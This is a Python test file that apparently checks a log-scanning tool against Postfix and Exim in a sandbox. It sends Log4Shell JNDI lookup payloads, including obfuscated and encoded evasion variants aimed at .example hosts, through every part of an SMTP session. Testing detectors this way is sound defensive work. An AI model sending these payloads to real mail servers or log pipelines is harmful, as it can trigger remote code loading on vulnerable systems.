"""Postfix and Exim as Debian ships them: attacks in every part of an SMTP session that they log."""
import email.header
import pathlib
import re
import shutil
import socket
import sys
import tempfile
import unittest

import server_case
from server_case import DEADLINE, Sent, Server, await_that, look

CALTROP, FOLDER = pathlib.Path(sys.argv[1]).resolve(), pathlib.Path(sys.argv[2]).resolve()

POSTFIX = """
compatibility_level = 3.6
myhostname = mx.example
mydestination = shop.example
inet_interfaces = all
inet_protocols = ipv4
local_recipient_maps =
local_transport = discard:
default_transport = discard:
maillog_file = /var/log/maillog
header_checks = regexp:/etc/postfix/header_checks
body_checks = regexp:/etc/postfix/body_checks
smtpd_error_sleep_time = 0
smtpd_helo_restrictions = reject_invalid_helo_hostname
smtpd_recipient_restrictions = reject_non_fqdn_sender, reject_unauth_destination
smtpd_discard_ehlo_keywords = pipelining
queue_directory = /var/spool/postfix
alias_maps =
alias_database =
"""
CHECKS = "/^(Subject|From|X-.*):/ WARN\n"

EXIM = r"""
primary_hostname = mx.example
daemon_smtp_ports = 25
tls_advertise_hosts =
log_selector = %s
acl_smtp_rcpt = rcpt
acl_smtp_data = data
begin acl
rcpt:
  deny message = relay not permitted
       !domains = shop.example
  accept
data:
  deny message = no
       condition = ${if def:h_X-Refused:}
  accept
begin routers
all:
  driver = redirect
  data = :blackhole:
"""


class Session:
    """One SMTP client; each step waits for its reply."""

    def __init__(self, client):
        self.socket = socket.socket()
        self.socket.settimeout(DEADLINE)
        self.socket.bind((client, 0))
        self.socket.connect(("127.0.0.1", 25))
        self.file = self.socket.makefile("rb")
        self.reply()

    def reply(self):
        while (line := self.file.readline())[3:4] == b"-":
            pass
        return line

    def say(self, *lines):
        for line in lines:
            self.socket.sendall(line + b"\r\n")
            last = self.reply()
        return last

    def letter(self, *headers, body=b"hello"):
        if self.say(b"DATA").startswith(b"354"):
            self.say(b"\r\n".join([*headers, b"", body, b"."]))

    def close(self):
        try:
            self.say(b"QUIT")
        except OSError:
            pass
        self.file.close()
        self.socket.close()


def sessions(new):
    """One session after the other, each with one attack; new(client, fields, template) gives a payload."""
    n = 0

    def begin(fields, template="${jndi:ldap://%s.example/a}", **expect):
        nonlocal n
        n += 1
        client = "127.0.2.%d" % n
        payload = new(fields, template, source__ip=client, **expect).encode()
        return Session(client), payload

    helo, sender, rcpt = {"smtp.helo", "message"}, {"email.from.address", "message"}, {"email.to.address", "message"}
    hostile = '${${"x":-j}ndi:ldap://%s.example/" ],>;a}'
    for template in ("${jndi:ldap://%s.example/a}", hostile, "\xe9${jndi:ldap://%s.example/\\}"):
        s, p = begin(helo, template)
        s.say(b"EHLO " + p, b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@other.example>")
        yield s
        s, p = begin(sender, template)
        s.say(b"EHLO x.example", b"MAIL FROM:<\"" + p.replace(b'"', b'\\"') + b"\"@x.example>", b"RCPT TO:<b@other.example>", b"RCPT TO:<b@shop.example>")
        s.letter(b"Subject: plain")
        yield s
        s, p = begin(rcpt, template)
        s.say(b"EHLO x.example", b"MAIL FROM:<>", b"RCPT TO:<\"" + p.replace(b'"', b'\\"') + b"\"@other.example>")
        yield s
        for header, field in ((b"Subject", "email.subject"), (b"From", "email.header.from"), (b"X-Refused", "email.header.x-refused")):
            s, p = begin({field, "message"}, template)
            s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
            s.letter(header + b": hello from <a>[127.0.0.1]; from=<x> " + p)
            yield s
        s, p = begin({"email.message_id", "message"}, template)
        s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
        s.letter(b"Message-ID: <" + p + b"@x.example>", b"Subject: a \"quoted\\\" one")
        yield s
        s, p = begin({"message", "smtp.command"}, template)
        s.say(b"EHLO x.example", p + b": x")
        yield s
        s, p = begin({"message", "smtp.command"}, template)
        s.say(b"EHLO x.example", b"MAIL FROM: " + p)
        yield s
    # Longer than Postfix logs of a header, so that the brace may be missing: its log shows 200 bytes.
    for encode in (lambda t: email.header.Header(t, "utf-8", maxlinelen=60).encode().replace("\n", "\r\n"),
                   lambda t: "=?utf-8?q?" + "".join("=%02X" % b for b in t.encode()) + "?="):
        s, p = begin({"email.subject", "message"}, "${jndi:dns://%s.example/a}", hidden=True)
        s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
        s.letter(b"Subject: " + encode(p.decode()).encode(), body=b"see below")
        yield s
    s, p = begin({"email.header.x-refused", "message"})
    s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
    s.letter(b"X-Refused: =?utf-8?q?" + p.replace(b"$", b"=24").replace(b"{", b"=7B") + b"?=")
    yield s
    s, p = begin({"email.body"})
    s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
    s.letter(b"Subject: a", body=b"jndi " + p.replace(b"$", b"=24").replace(b"{", b"=7B"))
    yield s
    s, p = begin({"email.subject", "message"}, "\\u0024{jndi:ldap://%s.example/a}")
    s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
    s.letter(b"Subject: a", b" folded\t" + p)
    yield s


def let_all_talk(prefix):
    sent = Sent(prefix)
    for session in sessions(lambda fields, template, **expect: sent.payload(fields, template, **expect)):
        session.close()
    return sent


class Mail(server_case.Case):
    def setUp(self):
        self.dir = tempfile.TemporaryDirectory(prefix="caltrop-servers-")
        self.addCleanup(self.dir.cleanup)

    def server_of(self, name, users):
        server = Server(self.dir.name, FOLDER, name)
        self.addCleanup(server.unmount)
        for file, lines in users.items():
            with open(server.path(file), "a", encoding="ascii") as f:
                f.write(lines)
        return server

    def test_postfix(self):
        server = self.server_of("postfix", {"/etc/passwd": "postfix:x:1901:1901::/var/spool/postfix:/usr/sbin/nologin\n",
                                            "/etc/group": "postfix:x:1901:\npostdrop:x:1902:\n"})
        shutil.copy(server.path("/usr/share/postfix/master.cf.dist"), server.path("/etc/postfix/master.cf"))
        server.write("/etc/postfix/main.cf", POSTFIX)
        server.write("/etc/postfix/header_checks", CHECKS)
        server.write("/etc/postfix/body_checks", "/jndi/ WARN\n")
        server.run("chown", "-R", "postfix", "/var/lib/postfix")
        server.start("postfix", "start-fg", port=25)
        sent = let_all_talk("p")
        server.run("postfix", "stop", stderr=server.said) # its master lives on otherwise
        server.stop()
        look(self, CALTROP, server.path("/var/log/maillog"), sent, "postfix", least=20, grades=("exploit", "reach"), hidden=True)  # "?" for quotes makes a name a query

    def exim(self, selector):
        server = self.server_of("exim4", {"/etc/passwd": "Debian-exim:x:1903:1903::/var/spool/exim4:/usr/sbin/nologin\n",
                                          "/etc/group": "Debian-exim:x:1903:\n"})
        server.write("/etc/exim4/exim4.conf", EXIM.replace("%s", selector))
        server.run("install", "-d", "-o", "Debian-exim", "-g", "Debian-exim", "/var/spool/exim4", "/var/log/exim4")
        server.start("/usr/sbin/exim4", "-bdf", port=25)
        sent = let_all_talk("e")
        log = server.path("/var/log/exim4/mainlog")
        letters = len(re.findall(rb" <= ", log.read_bytes()))
        await_that(lambda: len(re.findall(rb" Completed", log.read_bytes())) >= letters, "the letters' end")
        server.stop()
        return server, sent

    def test_exim(self):
        server, sent = self.exim("+subject +smtp_protocol_error +smtp_syntax_error")
        look(self, CALTROP, server.path("/var/log/exim4/mainlog"), sent, "exim", least=18)
        look(self, CALTROP, server.path("/var/log/exim4/rejectlog"), sent, least=3)

    def test_exim_all(self):
        server, sent = self.exim("+all")
        look(self, CALTROP, server.path("/var/log/exim4/mainlog"), sent, "exim", least=18)


if __name__ == "__main__":
    server_case.enter(FOLDER)
    unittest.main(argv=sys.argv[:1] + sys.argv[3:], verbosity=2)
